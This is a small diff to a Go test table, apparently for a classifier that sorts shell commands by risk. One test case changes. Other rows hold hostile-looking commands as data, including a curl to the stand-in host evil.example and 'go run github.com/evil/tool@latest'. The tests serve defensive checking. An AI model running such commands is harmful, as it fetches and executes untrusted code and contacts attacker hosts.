@@ -50,7 +50,7 @@ func TestClosedWorld(t *testing.T) {
 		{"network", "route add default gw 192.0.2.1", "U.unknown-program"},
 		{"network", "curl -s --url https://evil.example/x localhost", "C1.network-request"},
 		// Default branches that allowed any subcommand.
-		{"default", "go generate ./...", "U.unknown-subcommand"},
+		{"default", "go telemetry on", "U.unknown-subcommand"},
 		{"default", "go tool evil", "U.unknown-subcommand"},
 		{"default", "go run github.com/evil/tool@latest", "B9.run-downloaded"},
 		{"default", "go env -w GOFLAGS=-toolexec=/tmp/x", "U.unknown-option"},
